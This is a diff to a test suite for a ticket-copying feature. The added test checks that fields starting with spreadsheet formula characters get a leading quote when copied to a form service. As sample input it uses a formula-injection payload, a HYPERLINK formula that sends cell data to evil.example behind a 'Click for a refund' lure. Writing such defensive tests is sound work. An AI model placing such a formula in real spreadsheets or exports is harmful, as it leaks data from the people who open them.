@@ -148,6 +148,29 @@ describe("the copy of each ticket for the form service", () => {
     });
   });
 
+  it("starts no field with a spreadsheet formula character: such a text gets a leading quote", async () => {
+    const form = await receiver();
+    const testApp = await mirrorApp(form.url);
+    const student = await createStudent(testApp, { name: "@SUM(1+1)" });
+    const description = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a refund")';
+    const ticket = await raiseTicket(testApp, student.cookie, description);
+
+    await waitUntil(() => form.received.length === 1, "the copy");
+    const fields = Object.fromEntries(form.received[0]?.fields ?? []);
+    expect(fields).toMatchObject({ name: "'@SUM(1+1)", description: `'${description}` });
+    // Only the copy is neutralised: the ticket keeps the words the student wrote.
+    expect(ticket.description).toBe(description);
+    for (const value of Object.values(fields)) expect(String(value)).not.toMatch(/^[=+\-@\t\r]/);
+
+    for (const text of ["+91 98765 43210 called me", "-5 stars", "@admin please look"]) {
+      const sent = form.received.length;
+      await raiseTicket(testApp, student.cookie, text);
+      await waitUntil(() => form.received.length === sent + 1, "the next copy");
+      const copy = Object.fromEntries(form.received.at(-1)?.fields ?? []);
+      expect(copy.description).toBe(`'${text}`);
+    }
+  });
+
   it("does not hold up the user: the ticket is stored (201) while the form service is down", async () => {
     const testApp = await mirrorApp(await unreachableUrl());
     const student = await createStudent(testApp);
